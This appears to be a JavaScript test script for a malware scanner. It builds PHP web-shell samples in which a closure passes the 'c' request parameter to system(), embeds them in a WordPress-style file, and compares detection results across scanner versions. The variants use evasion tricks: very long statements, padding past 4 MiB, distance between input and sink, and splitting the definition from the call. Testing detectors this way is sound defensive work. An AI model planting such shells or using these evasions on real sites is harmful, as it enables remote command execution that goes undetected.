import { both, WP } from './harness.mjs';
const CL = `$call = function ($f, $a) { return $f($a); }; $call('system', $_GET['c']);`;
const cases = {
  'O1 definition in a >4KiB statement': WP + `\n$call = function ($f, $a) { return $f($a); } ?: array(${Array.from({length: 300}, (_, i) => `'k${i}' => ${i}`).join(', ')});\n$call('system', $_GET['c']);\n`,
  'O2 past 4 MiB': WP + '\n/*' + ' '.repeat((4 << 20) - WP.length) + '*/\n' + CL + '\n',
  'O3 input 5 KiB before sink': WP + `\n$c = $_GET['c'];\n` + Array.from({length: 150}, (_, i) => `$pad_${i} = ${i} + 1;\n`).join('') + `$call = function ($f, $a) { return $f($a); }; $call('system', $c);\n`,
  'O4 split: closure defined at top, called at end': WP.replace('<?php', `<?php\n$wp_cb = function ($f, $a) { return $f($a); };`) + `\n$wp_cb('system', $_GET['c']);\n`,
};
for (const [n, t] of Object.entries(cases)) { const r = both(t); console.log(n, (t.length/1024)|0, 'K', 'base=' + r.base, '001f0c1=' + r.main, 'rt22=' + r.cur, r.tb + '/' + r.tc + 'ms'); }
